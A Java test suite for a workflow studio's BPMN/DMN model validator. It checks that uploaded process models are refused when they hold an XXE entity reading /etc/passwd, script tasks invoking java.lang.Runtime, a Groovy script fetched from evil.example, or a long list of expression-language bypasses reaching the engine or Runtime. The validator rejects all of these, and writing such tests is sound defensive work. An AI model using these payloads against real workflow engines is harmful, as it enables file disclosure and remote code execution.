package org.communityjourneys.workflow.service;

import org.communityjourneys.studio.service.ModelSafety;
import org.communityjourneys.support.StudioModels;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.List;
import org.communityjourneys.studio.domain.ModelFile;
import org.communityjourneys.studio.domain.ModelProblem;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.core.io.Resource;
import org.springframework.core.io.support.PathMatchingResourcePatternResolver;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.context.ActiveProfiles;

/** Each studio rule on its own, and the seed models passing every rule. */
@SpringBootTest
@ActiveProfiles("test")
@WithMockUser(username = "lead-one", roles = "GOVERNANCE")
class ModelValidatorTest {

    @Autowired
    ModelValidator validator;

    @Test
    void everySeedModelValidatesClean() throws IOException {
        List<ModelFile> seeds = new ArrayList<>();
        PathMatchingResourcePatternResolver resolver = new PathMatchingResourcePatternResolver();
        for (String pattern : new String[] {"classpath*:processes/*.bpmn", "classpath*:processes/*.dmn", "classpath*:forms/*.form"}) {
            for (Resource resource : resolver.getResources(pattern)) {
                try (InputStream in = resource.getInputStream()) {
                    String folder = pattern.contains("forms/") ? "forms/" : "processes/";
                    seeds.add(new ModelFile(folder + resource.getFilename(), in.readAllBytes()));
                }
            }
        }
        long onDisk;
        try (var processes = java.nio.file.Files.list(java.nio.file.Path.of("processes"));
                var forms = java.nio.file.Files.list(java.nio.file.Path.of("forms"))) {
            onDisk = processes.count() + forms.count();
        }
        assertThat(seeds).as("every file in processes/ and forms/ is checked").hasSize((int) onDisk);

        assertThat(validator.validate(seeds)).isEmpty();
        for (ModelFile seed : seeds) {
            assertThat(validator.validate(seed)).as(seed.name()).isEmpty();
        }
    }

    @Test
    void everyAllowListedBeanExistsSoNoStaleNameCanBeTakenOverLater(@Autowired org.springframework.context.ApplicationContext context) {
        for (String bean : ModelSafety.DELEGATE_BEANS) {
            assertThat(context.containsBean(bean)).as("the allow-listed delegate %s is a bean", bean).isTrue();
        }
        for (String bean : ModelSafety.EXPRESSION_BEANS) {
            assertThat(context.containsBean(bean)).as("the allow-listed expression bean %s is a bean", bean).isTrue();
        }
    }

    @Test
    void aSmallValidProcessPasses() {
        String key = StudioModels.uniqueKey();
        assertThat(validator.validate(StudioModels.file(key, StudioModels.process(key)))).isEmpty();
    }

    @Test
    void malformedXmlIsRefused() {
        String key = StudioModels.uniqueKey();
        String broken = StudioModels.process(key).replace("</bpmn:process>", "");
        assertThat(rules(broken)).containsExactly("xml.malformed");
    }

    @Test
    void anXxePayloadIsRefusedBeforeAnyParserReadsIt() {
        String key = StudioModels.uniqueKey();
        String xxe = StudioModels.process(key).replace("<bpmn:definitions",
                "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<bpmn:definitions")
                .replace("name=\"Check\"", "name=\"&xxe;\"");
        List<ModelProblem> problems = validator.validate(StudioModels.file(key, xxe));
        assertThat(problems).extracting(ModelProblem::rule).containsExactly("xml.doctype");
        assertThat(problems.get(0).message()).doesNotContain("root:");
    }

    @Test
    void aScriptTaskIsRefused() {
        String key = StudioModels.uniqueKey();
        String script = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"",
                "<bpmn:scriptTask id=\"sneaky\" scriptFormat=\"javascript\"><bpmn:script>java.lang.Runtime.getRuntime()</bpmn:script></bpmn:scriptTask>");
        List<ModelProblem> problems = validator.validate(StudioModels.file(key, script));
        assertThat(problems).extracting(ModelProblem::rule).contains("script.not-allowed");
        assertThat(problems).extracting(ModelProblem::elementId).contains("sneaky");
    }

    @Test
    void anUnknownDelegateBeanIsRefused() {
        String key = StudioModels.uniqueKey();
        String bean = withEndListener(StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"", ""),
                "<camunda:executionListener event=\"start\" delegateExpression=\"${auditLog}\" />");
        assertThat(validator.validate(StudioModels.file(key, bean)))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("end", "delegate.not-allowed"));
    }

    /** The cluster drill's delegate (on drill nodes only) is not one a governance lead may use, nor is its model one to deploy. */
    @Test
    void theClusterDrillsDelegateAndModelAreRefusedInTheStudio() throws Exception {
        String key = StudioModels.uniqueKey();
        String drillStep = withEndListener(StudioModels.process(key),
                "<camunda:executionListener event=\"start\" delegateExpression=\"${recordDrillEffect}\" />");
        assertThat(rules(drillStep)).containsExactly("delegate.not-allowed");
        String drillModel;
        try (var in = getClass().getClassLoader().getResourceAsStream("drill/cluster-drill.bpmn")) {
            drillModel = new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        }
        assertThat(validator.validate(ModelFile.of("processes/cluster-drill.bpmn", drillModel)))
                .extracting(ModelProblem::rule).contains("delegate.not-allowed");
    }

    @Test
    void anExpressionCallingAnApplicationBeanIsRefused() {
        String key = StudioModels.uniqueKey();
        String bean = withEndListener(StudioModels.process(key),
                "<camunda:executionListener event=\"start\" expression=\"${journeyService.moveTo(null, null)}\" />");
        assertThat(rules(bean)).containsExactly("expression.bean-not-allowed");
    }

    @Test
    void anExpressionReachingIntoTheEngineIsRefused() {
        String key = StudioModels.uniqueKey();
        String engine = withEndListener(StudioModels.process(key),
                "<camunda:executionListener event=\"start\" expression=\"${execution.getProcessEngineServices().getRepositoryService()}\" />");
        assertThat(rules(engine)).containsExactly("expression.shape-not-allowed");
    }

    @Test
    void everyWayRoundTheOldNameListIsRefusedByShape() {
        String key = StudioModels.uniqueKey();
        String process = StudioModels.process(key);
        for (String bypass : List.of(
                "${execution.processEngineServices.repositoryService}", // property form, no "get"
                "${execution.processEngine}",
                "${execution['processEngine']}", // bracket form
                "${execution[\"processEngineServices\"].repositoryService}",
                "${ideaIds[0]}",
                "${ideaIds.getClass().forName('java.lang.Runtime')}", // a method on a variable
                "${amount.toString()}",
                "${decision.class}",
                "${x.y}",
                "${(execution).processEngine}",
                "${'text'.concat(decision)}",
                "${ideaIds.stream().map(i -> i).count()}", // lambda
                "${v -> v}",
                "${decision = 'approve'}", // assignment
                "${decision += 'x'}",
                "${x; y}",
                "${execution.getProcessEngine()}",
                "${execution.setVariable(name, 1)}",
                "${execution.getVariable('a').getClass()}",
                "${execution.getVariableTyped('a')}",
                "${task.getVariable('decision')}",
                "${T(java.lang.Runtime)}",
                "${now()}",
                "${fn:trim(decision)}",
                "${a ${b}}",
                "${'open}",
                "${}",
                "#{execution.processEngine}")) {
            String model = withEndListener(process, "<camunda:executionListener event=\"start\" expression=\"" + escape(bypass) + "\" />");
            List<ModelProblem> problems = validator.validate(StudioModels.file(key, model));
            assertThat(problems).as(bypass).extracting(ModelProblem::rule).containsExactly("expression.shape-not-allowed");
            assertThat(problems.get(0).message()).as(bypass).contains("The expression " + bypass.substring(0, Math.min(bypass.length(), 4)));
        }
    }

    @Test
    void onlyTheAllowListedMethodsOfAnExpressionBeanMayBeCalled() {
        String key = StudioModels.uniqueKey();
        String process = StudioModels.process(key);
        for (String bean : List.of("${journeyStage.toString()}", "${journeyStage.moveTo}", "${journeyStage.getClass()}",
                "${journeyService.moveTo(execution, 'IDEAS')}", "${journeyService}", "${journeyStage}")) {
            String model = withEndListener(process, "<camunda:executionListener event=\"start\" expression=\"" + bean + "\" />");
            assertThat(rules(model)).as(bean).containsExactly("expression.bean-not-allowed");
        }
    }

    @Test
    void theAllowedShapesPass() {
        String key = StudioModels.uniqueKey();
        String process = StudioModels.process(key);
        for (String allowed : List.of(
                "${journeyStage.moveTo(execution, 'IDEAS')}",
                "${execution.setVariable('ideasClosedEarly', true)}",
                "${execution.setVariable('total', amount * 2 + 1.5e2 - (fee div 3) mod 7)}",
                "${execution.setVariable('late', not empty ideaIds and (count gt 3 || count <= -1))}",
                "${execution.setVariable('route', amount ge 1000 ? 'BOARD' : \"FACILITATOR\")}",
                "${execution.setVariable('copy', execution.getVariable('decision'))}",
                "${decision == 'approve' && reviewDecision != 'clarify' or null eq x}",
                "${!(a lt b) ne false}",
                "${'braces } inside a string'}",
                "before ${amount} between ${count} after")) {
            String model = withEndListener(process, "<camunda:executionListener event=\"start\" expression=\"" + escape(allowed) + "\" />");
            assertThat(validator.validate(StudioModels.file(key, model))).as(allowed).isEmpty();
        }
    }

    @Test
    void conditionsAndTimersGoThroughTheSameCheck() {
        String key = StudioModels.uniqueKey();
        String gateway = StudioModels.process(key).replace("<bpmn:sequenceFlow id=\"f2\" sourceRef=\"check\" targetRef=\"end\" />",
                "<bpmn:sequenceFlow id=\"f2\" sourceRef=\"check\" targetRef=\"end\">"
                        + "<bpmn:conditionExpression xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:type=\"bpmn:tFormalExpression\">"
                        + "CONDITION</bpmn:conditionExpression></bpmn:sequenceFlow>");
        assertThat(validator.validate(StudioModels.file(key, gateway.replace("CONDITION", "${decision == 'approve'}")))).isEmpty();
        assertThat(validator.validate(StudioModels.file(key, gateway.replace("CONDITION", "${execution.processEngine != null}"))))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("f2", "expression.shape-not-allowed"));
        assertThat(rules(gateway.replace("CONDITION", "${execution<!-- split -->.processEngine != null}")))
                .containsExactly("expression.shape-not-allowed");
        assertThat(rules(gateway.replace("CONDITION", "${decision<bpmn:documentation>.bytes</bpmn:documentation> == null}")))
                .contains("expression.shape-not-allowed");

        String timer = key + "timer";
        String withTimer = StudioModels.process(timer).replace("<bpmn:endEvent id=\"end\"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>",
                "<bpmn:endEvent id=\"end\"><bpmn:incoming>f2</bpmn:incoming><bpmn:incoming>late</bpmn:incoming></bpmn:endEvent>"
                        + "<bpmn:boundaryEvent id=\"tooLong\" attachedToRef=\"check\"><bpmn:outgoing>late</bpmn:outgoing>"
                        + "<bpmn:timerEventDefinition><bpmn:timeDuration>${execution['processEngine'] == null ? 'P1D' : 'P2D'}"
                        + "</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>"
                        + "<bpmn:sequenceFlow id=\"late\" sourceRef=\"tooLong\" targetRef=\"end\" />");
        assertThat(validator.validate(StudioModels.file(timer, withTimer)))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("tooLong", "expression.shape-not-allowed"));
    }

    private static String escape(String expression) {
        return expression.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
    }

    @Test
    void aJavaClassIsRefused() {
        String key = StudioModels.uniqueKey();
        String withClass = withEndListener(StudioModels.process(key),
                "<camunda:executionListener event=\"start\" class=\"java.lang.Runtime\" />");
        assertThat(rules(withClass)).containsExactly("class.not-allowed");
    }

    @Test
    void anExternalResourceIsRefused() {
        String key = StudioModels.uniqueKey();
        String external = withEndListener(StudioModels.process(key),
                "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\" resource=\"http://evil.example/x.groovy\" /></camunda:executionListener>");
        assertThat(rules(external)).contains("external.resource", "script.not-allowed");
    }

    @Test
    void anUnknownGroupIsRefused() {
        String key = StudioModels.uniqueKey();
        String group = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"GOVERNANCE, WIZARDS\" camunda:formKey=\"screen:certify\"", "");
        List<ModelProblem> problems = validator.validate(StudioModels.file(key, group));
        assertThat(problems).extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("check", "usertask.candidate-group"));
        assertThat(problems.get(0).message()).contains("WIZARDS");
    }

    @Test
    void starterGroupsMustBeRoles() {
        String key = StudioModels.uniqueKey();
        String roles = StudioModels.process(key,
                "camunda:historyTimeToLive=\"P30D\" camunda:candidateStarterGroups=\"APPLICANT, RESIDENT,FACILITATOR\"",
                "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"", "");
        assertThat(validator.validate(StudioModels.file(key, roles))).isEmpty();

        String unknown = roles.replace("RESIDENT", "HUB_ORGANISERS");
        List<ModelProblem> problems = validator.validate(StudioModels.file(key, unknown));
        assertThat(problems).extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(key, "process.candidate-starter-group"));
        assertThat(problems.get(0).message()).contains("HUB_ORGANISERS");
    }

    @Test
    void aMissingHistoryTimeToLiveIsRefused() {
        String key = StudioModels.uniqueKey();
        String noHistory = StudioModels.process(key, "", "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"", "");
        assertThat(validator.validate(StudioModels.file(key, noHistory)))
                .extracting(ModelProblem::rule).contains("history-time-to-live");
    }

    @Test
    void aUserTaskNeedsAFormThatExistsOrAKnownScreen() {
        String key = StudioModels.uniqueKey();
        String newForm = "form-" + key;
        String process = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"FACILITATOR\" camunda:formRef=\"" + newForm + "\" camunda:formRefBinding=\"deployment\"", "");
        assertThat(rules(process)).containsExactly("usertask.form");

        ModelFile form = ModelFile.of("forms/" + newForm + ".form", StudioModels.form(newForm, "note"));
        assertThat(validator.validate(List.of(StudioModels.file(key, process), form))).isEmpty();

        String unknownScreen = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"FACILITATOR\" camunda:formKey=\"screen:nowhere\"", "");
        assertThat(rules(unknownScreen)).containsExactly("usertask.form");
        String embedded = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"FACILITATOR\" camunda:formKey=\"embedded:app:forms/x.html\"", "");
        assertThat(rules(embedded)).containsExactly("usertask.form");
    }

    @Test
    void aDisconnectedTaskAndMissingEventsAreReported() {
        String key = StudioModels.uniqueKey();
        String loose = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
                "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"",
                "<bpmn:userTask id=\"loose\" name=\"Forgotten\" camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\" />");
        assertThat(validator.validate(StudioModels.file(key, loose)))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("loose", "structure.disconnected"));

        String noEnd = StudioModels.process(key).replace("<bpmn:endEvent id=\"end\"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>",
                "<bpmn:intermediateThrowEvent id=\"end\"><bpmn:incoming>f2</bpmn:incoming></bpmn:intermediateThrowEvent>");
        assertThat(rules(noEnd)).contains("structure.end-event");
    }

    @Test
    void aGatewayWithoutConditionsIsReported() {
        String key = StudioModels.uniqueKey();
        String gateway = StudioModels.process(key).replace(
                "<bpmn:sequenceFlow id=\"f2\" sourceRef=\"check\" targetRef=\"end\" />",
                "<bpmn:sequenceFlow id=\"f2\" sourceRef=\"check\" targetRef=\"choose\" />"
                        + "<bpmn:exclusiveGateway id=\"choose\"><bpmn:incoming>f2</bpmn:incoming><bpmn:outgoing>yes</bpmn:outgoing><bpmn:outgoing>no</bpmn:outgoing></bpmn:exclusiveGateway>"
                        + "<bpmn:sequenceFlow id=\"yes\" sourceRef=\"choose\" targetRef=\"end\"><bpmn:conditionExpression>${ok}</bpmn:conditionExpression></bpmn:sequenceFlow>"
                        + "<bpmn:sequenceFlow id=\"no\" sourceRef=\"choose\" targetRef=\"end\" />")
                .replace("<bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>", "<bpmn:incoming>yes</bpmn:incoming><bpmn:incoming>no</bpmn:incoming></bpmn:endEvent>");
        assertThat(validator.validate(StudioModels.file(key, gateway)))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("no", "gateway.conditions"));
        assertThat(validator.validate(StudioModels.file(key, gateway.replace("<bpmn:exclusiveGateway id=\"choose\">",
                "<bpmn:exclusiveGateway id=\"choose\" default=\"no\">")))).isEmpty();
    }

    @Test
    void timerExpressionsMustParse() {
        String key = StudioModels.uniqueKey();
        String timer = StudioModels.process(key).replace("<bpmn:endEvent id=\"end\"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>",
                "<bpmn:endEvent id=\"end\"><bpmn:incoming>f2</bpmn:incoming><bpmn:incoming>late</bpmn:incoming></bpmn:endEvent>"
                        + "<bpmn:boundaryEvent id=\"tooLong\" attachedToRef=\"check\"><bpmn:outgoing>late</bpmn:outgoing>"
                        + "<bpmn:timerEventDefinition><bpmn:timeDuration>TIMER</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>"
                        + "<bpmn:sequenceFlow id=\"late\" sourceRef=\"tooLong\" targetRef=\"end\" />");
        assertThat(validator.validate(StudioModels.file(key, timer.replace("TIMER", "P14D")))).isEmpty();
        assertThat(validator.validate(StudioModels.file(key, timer.replace("TIMER", "${reminderAfter}")))).isEmpty();
        assertThat(validator.validate(StudioModels.file(key, timer.replace("TIMER", "fortnight"))))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("tooLong", "timer.expression"));
    }

    @Test
    void formsNeedValidJsonComponentsAndUniqueKeys() {
        assertThat(formRules("{ not json")).containsExactly("form.json");
        assertThat(formRules("{\"id\":\"empty-form\",\"components\":[]}")).containsExactly("form.components");
        assertThat(formRules(StudioModels.form("twice", "note", "note"))).containsExactly("form.key-unique");
        assertThat(formRules("{\"components\":[{\"type\":\"textfield\",\"key\":\"a\"}]}")).containsExactly("form.id");
        assertThat(formRules(StudioModels.form("fine", "note", "amount"))).isEmpty();
    }

    @Test
    void aDecisionNeedsHistoryTimeToLiveAndFeel() {
        String decision = """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn" id="d" name="d" namespace="http://communityjourneys.org/dmn">
                  <decision id="tiny" name="Tiny" HTTL>
                    <decisionTable id="table">
                      <input id="in" label="Amount"><inputExpression id="inExpr" typeRef="long" LANG><text>amount</text></inputExpression></input>
                      <output id="out" name="ok" typeRef="boolean" />
                      <rule id="r1"><inputEntry id="e1"><text>&lt; 100</text></inputEntry><outputEntry id="o1"><text>true</text></outputEntry></rule>
                    </decisionTable>
                  </decision>
                </definitions>
                """.strip();
        String good = decision.replace("HTTL", "camunda:historyTimeToLive=\"P30D\"").replace("LANG", "");
        assertThat(validator.validate(ModelFile.of("processes/tiny.dmn", good))).isEmpty();
        assertThat(validator.validate(ModelFile.of("processes/tiny.dmn", decision.replace("HTTL", "").replace("LANG", ""))))
                .extracting(ModelProblem::elementId, ModelProblem::rule)
                .contains(org.assertj.core.groups.Tuple.tuple("tiny", "history-time-to-live"));
        assertThat(validator.validate(ModelFile.of("processes/tiny.dmn", good.replace("typeRef=\"long\" ", "typeRef=\"long\" expressionLanguage=\"javascript\" "))))
                .extracting(ModelProblem::rule).containsExactly("script.not-allowed");
    }

    /** The process with the given listener (or other extension) on its end event. */
    private static String withEndListener(String processXml, String extension) {
        return processXml.replace("<bpmn:endEvent id=\"end\">",
                "<bpmn:endEvent id=\"end\"><bpmn:extensionElements>" + extension + "</bpmn:extensionElements>");
    }

    private List<String> rules(String processXml) {
        return validator.validate(ModelFile.of("processes/test.bpmn", processXml)).stream().map(ModelProblem::rule).distinct().toList();
    }

    private List<String> formRules(String json) {
        return validator.validate(ModelFile.of("forms/test.form", json)).stream().map(ModelProblem::rule).distinct().toList();
    }
}
